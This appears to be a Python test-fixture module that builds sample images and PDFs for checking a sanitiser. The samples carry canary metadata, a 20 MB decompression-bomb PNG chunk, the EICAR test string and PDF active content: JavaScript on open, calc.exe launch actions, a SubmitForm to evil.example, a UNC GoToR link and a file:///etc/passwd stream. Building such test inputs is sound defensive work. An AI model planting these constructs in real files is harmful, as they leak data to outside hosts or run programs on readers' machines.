"""Files with something in them that nobody should get: made here, each small and each harmless outside of a test."""

import io
import struct
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from PIL import Image, ImageCms, ImageDraw
from PIL.PngImagePlugin import PngInfo

from tests.conversations import samples

CANARY = "CANARY-47.3769N-8.5417E"
# The test string of the virus scanners' makers, in two parts, so that this file is not taken for one.
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def half_red(size: tuple[int, int] = (64, 32), mode: str = "RGB") -> Image.Image:
    """A picture whose left half is red, so that one sees how it was turned."""
    picture = Image.new("RGB", size, "blue")
    ImageDraw.Draw(picture).rectangle((0, 0, size[0] // 2 - 1, size[1]), fill="red")
    return picture.convert(mode)


def exif(orientation: int = 1) -> Image.Exif:
    """What a camera writes: where and when, whose camera, and how it was held."""
    data = Image.Exif()
    data[0x0112] = orientation
    data[0x010E] = f"description {CANARY}"
    data[0x013B] = f"artist {CANARY}"
    gps = data.get_ifd(0x8825)
    gps[1], gps[2] = "N", (47.0, 22.0, 36.8)
    gps[29] = CANARY
    return data


def photograph(orientation: int = 1, *, comment: bool = True, trailing: bytes = b"") -> bytes:
    """A JPEG with everything that cameras and editors leave: EXIF with place, XMP, ICC profile, comment, thumbnail."""
    out = io.BytesIO()
    half_red().save(
        out,
        "JPEG",
        quality=90,
        exif=exif(orientation),
        xmp=f"<x:xmpmeta xmlns:x='adobe:ns:meta/'>{CANARY}</x:xmpmeta>".encode(),
        icc_profile=profile(),
        comment=f"comment {CANARY}" if comment else b"",
    )
    content = out.getvalue()
    # An application's segment of its own, as editors write them (APP13), right after the beginning.
    segment = b"Photoshop 3.0\0" + CANARY.encode()
    return content[:2] + b"\xff\xed" + struct.pack(">H", len(segment) + 2) + segment + content[2:] + trailing


def profile() -> bytes:
    """An ICC profile with the canary in its copyright."""
    made = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    return bytes(made) + CANARY.encode()


def chunk(kind: bytes, data: bytes) -> bytes:
    """One chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def drawing(*, trailing: bytes = b"") -> bytes:
    """A PNG with text in all three ways, EXIF, a profile, and a chunk of nobody's."""
    out, note = io.BytesIO(), PngInfo()
    note.add_text("Comment", CANARY)
    note.add_text("Author", CANARY, zip=True)
    note.add_itxt("XML:com.adobe.xmp", CANARY)
    half_red().save(out, "PNG", pnginfo=note, exif=exif(), icc_profile=profile())
    content = out.getvalue()
    end = content.rindex(b"IEND") - 4
    return content[:end] + chunk(b"teSt", CANARY.encode()) + content[end:] + trailing


def text_bomb() -> bytes:
    """A PNG whose packed text unfolds to 20 MB."""
    content = samples.png()
    end = content.rindex(b"IEND") - 4
    packed = zlib.compress(bytes(20 * 1024 * 1024), 9)
    return content[:end] + chunk(b"zTXt", b"Comment\0\0" + packed) + content[end:]


def moving() -> bytes:
    """An animated PNG."""
    out = io.BytesIO()
    half_red().save(out, "PNG", save_all=True, append_images=[Image.new("RGB", (64, 32), "green")])
    return out.getvalue()


def pdf(change: Callable[[pikepdf.Pdf], None], *, hidden: bool = False, **saving: object) -> bytes:
    """A document changed so; ``hidden`` packs what it can into compressed object streams."""
    out = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        change(document)
        if hidden:
            saving["object_stream_mode"] = pikepdf.ObjectStreamMode.generate
        document.save(out, **saving)  # type: ignore[arg-type]  # pikepdf's own options
    return out.getvalue()


def packed_document(*, padding: int) -> bytes:
    """A document whose catalogue lies in a compressed object stream with so many blanks behind it."""
    inside = b"1 0 " + b"<< /Type /Catalog /Pages 2 0 R >>" + b" " * padding
    packed = zlib.compress(inside, 9)
    parts = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        4: b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(packed), packed),
    }
    out, places = b"%PDF-1.5\n", {}
    for number, part in parts.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, part)
    places[5] = len(out)
    entries = [(0, 0, 0), (2, 4, 0), *[(1, places[number], 0) for number in (2, 3, 4, 5)]]
    table = b"".join(struct.pack(">BIH", *entry) for entry in entries)
    out += b"5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(table),
        table,
    )
    return out + b"startxref\n%d\n%%%%EOF\n" % places[5]


def action(kind: str, **entries: Any) -> pikepdf.Dictionary:
    """An action of a document."""
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(f"/{kind}"), **entries)


def annotate(document: pikepdf.Pdf, **entries: Any) -> None:
    """Put an annotation on the first page."""
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **entries)
    document.pages[0].Annots = document.make_indirect(pikepdf.Array([document.make_indirect(note)]))


def _script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = document.make_indirect(action("JavaScript", JS="app.alert(1)"))


def _script_in_names(document: pikepdf.Pdf) -> None:
    names = pikepdf.Array(["x", document.make_indirect(action("JavaScript", JS="app.alert(1)"))])
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))


def _attached(document: pikepdf.Pdf) -> None:
    document.attachments["harm.exe"] = pikepdf.AttachedFileSpec(
        document, b"MZ", filename="harm.exe", description="", mime_type="", creation_date="", mod_date=""
    )


def _form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=document.make_stream(b"<xdp/>"))


def _chained(document: pikepdf.Pdf) -> None:
    jump = action("GoTo", D=[document.pages[0].obj, pikepdf.Name.Fit], Next=action("URI", URI="https://evil.example"))
    document.Root.OpenAction = jump


def _elsewhere(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"")
    stream.F = "file:///etc/passwd"
    document.Root.Extra = stream


ACTIVE: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "script-on-opening": _script,
    "script-in-names": _script_in_names,
    "script-that-no-page-leads-to": lambda document: setattr(document.Root, "Extra", action("JavaScript", JS="x")),
    "program": lambda document: annotate(document, Subtype=pikepdf.Name.Link, A=action("Launch", F="calc.exe")),
    "program-on-opening": lambda document: setattr(document.Root, "OpenAction", action("Launch", F="calc.exe")),
    "file-inside": _attached,
    "file-as-annotation": lambda document: annotate(document, Subtype=pikepdf.Name.FileAttachment),
    "portfolio": lambda document: setattr(document.Root, "Collection", pikepdf.Dictionary()),
    "xfa-form": _form,
    "sends-a-form": lambda document: annotate(
        document, Subtype=pikepdf.Name.Link, A=action("SubmitForm", F="https://evil.example")
    ),
    "imports-data": lambda document: annotate(document, Subtype=pikepdf.Name.Link, A=action("ImportData", F="x")),
    "opens-another-document": lambda document: annotate(
        document, Subtype=pikepdf.Name.Link, A=action("GoToR", F="\\\\evil.example\\x.pdf")
    ),
    "opens-a-file-inside": lambda document: annotate(document, Subtype=pikepdf.Name.Link, A=action("GoToE")),
    "link-on-opening": lambda document: setattr(document.Root, "OpenAction", action("URI", URI="https://evil.example")),
    "link-after-a-jump": _chained,
    "link-when-a-page-opens": lambda document: setattr(
        document.pages[0], "AA", pikepdf.Dictionary(O=action("URI", URI="https://evil.example"))
    ),
    "rich-media": lambda document: annotate(document, Subtype=pikepdf.Name.RichMedia),
    "film": lambda document: annotate(document, Subtype=pikepdf.Name.Movie),
    "3d": lambda document: annotate(document, Subtype=pikepdf.Name("/3D")),
    "stream-elsewhere": _elsewhere,
}  # fmt: skip
HARMLESS: dict[str, Callable[[pikepdf.Pdf], None]] = {
    "nothing": lambda document: None,
    "begins-at-a-page": lambda document: setattr(
        document.Root, "OpenAction", pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
    ),
    "jumps-on-opening": lambda document: setattr(
        document.Root, "OpenAction", action("GoTo", D=[document.pages[0].obj, pikepdf.Name.Fit])
    ),
    "a-link-to-click": lambda document: annotate(
        document, Subtype=pikepdf.Name.Link, A=action("URI", URI="https://hospital.example")
    ),
    "a-form-on-paper": lambda document: setattr(
        document.Root, "AcroForm", pikepdf.Dictionary(Fields=pikepdf.Array())
    ),
    "an-icc-profile": lambda document: setattr(
        document.Root, "OutputIntents", pikepdf.Array([pikepdf.Dictionary(S=pikepdf.Name.GTS_PDFA1)])
    ),
}  # fmt: skip
